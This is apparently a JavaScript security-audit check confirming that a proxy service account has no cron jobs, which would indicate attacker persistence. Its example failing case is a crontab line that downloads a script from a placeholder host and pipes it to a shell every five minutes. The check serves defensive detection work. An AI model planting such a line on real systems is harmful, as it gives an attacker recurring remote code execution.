import {proxyStateCheck} from './proxy-state-check.js'

export const check = proxyStateCheck(
  {
    id: 'PSP-FILE-009',
    title: 'The proxy service account has no cron jobs',
    severity: 'high',
    profiles: ['pulse-proxy'],
    tags: ['files', 'cron', 'incident', 'persistence'],
    rationale:
      'The proxy needs no scheduled job (key rotation runs as root from a timer). A crontab for pulse-sensor-proxy ' +
      '(or the old pulse-proxy), or a line of /etc/crontab or /etc/cron.d/* that runs as it, executes commands with ' +
      'its SSH key, whatever its nologin shell: cron runs jobs with /bin/sh. It is the persistence the hardening guide tells ' +
      'responders to look for.',
    remediation:
      'crontab -r -u pulse-sensor-proxy, and remove the lines running as it from /etc/crontab and /etc/cron.d; ' +
      'find out who added them.',
    reference:
      'Pulse, "Pulse Temperature Proxy - Security Hardening Guide", Suspected Compromise Checklist (crontab -l -u pulse-sensor-proxy)',
    example: {
      fail: '/var/spool/cron/crontabs/pulse-sensor-proxy: */5 * * * * curl -s http://x/p | sh',
      pass: 'no crontab for pulse-sensor-proxy and no system cron line running as it',
    },
  },
  'no cron job runs as the proxy account',
  '/var/spool/cron/crontabs',
)
